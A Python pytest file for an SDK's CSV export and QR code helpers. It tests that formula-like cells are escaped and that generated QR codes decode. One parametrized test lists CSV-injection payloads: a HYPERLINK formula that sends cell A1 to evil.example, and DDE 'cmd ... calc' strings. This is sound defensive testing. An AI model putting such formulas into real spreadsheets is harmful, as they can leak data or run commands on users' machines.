"""CSV cells safe to open in a spreadsheet, and QR codes a phone scanner reads."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import zxingcpp
from hypothesis import given
from hypothesis import strategies as st
from linli_sdk import FORMULA_PREFIXES, csv_document, csv_text, qr_png, safe_csv_cell
from PIL import Image


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-300",  # a number sent as text is text: escaped
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_quoted(cell: str) -> None:
    assert read_back(csv_text([["title"], [cell]])) == [["title"], ["'" + cell]]


def test_real_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    rows = [["amount", "ratio", "exact", "flag", "title", "missing"]]
    rows.append([-300, -0.5, Decimal("-1.25"), True, "Water off 9-12", None])
    assert read_back(csv_text(rows))[1] == ["-300", "-0.5", "-1.25", "True", "Water off 9-12", ""]


@given(st.text())
def test_no_text_cell_reads_back_as_a_formula(text: str) -> None:
    cell = safe_csv_cell(text)
    assert isinstance(cell, str) and not cell.startswith(FORMULA_PREFIXES)
    assert cell in (text, "'" + text)


def test_a_csv_document_leads_with_a_bom_for_spreadsheets_unless_asked_not_to() -> None:
    sheet = csv_document([["title", "units"], ["=1+2", -3]], filename="board.csv")
    assert sheet.media_type == "text/csv" and sheet.filename == "board.csv"
    assert sheet.content.startswith("\ufeff".encode())
    assert sheet.content.decode("utf-8-sig").splitlines() == ["title,units", "'=1+2,-3"]
    plain = csv_document([["a"]], filename="a.csv", bom=False)
    assert plain.content == b"a\r\n"


@pytest.mark.parametrize("data", ["12345678", "1", "https://linli.example/pickup/12345678"])
def test_a_qr_code_is_a_regular_qr_code_even_for_short_data(data: str) -> None:
    image = Image.open(io.BytesIO(qr_png(data)))
    found = [(code.text, code.format) for code in zxingcpp.read_barcodes(image)]
    assert found == [(data, zxingcpp.BarcodeFormat.QRCode)]
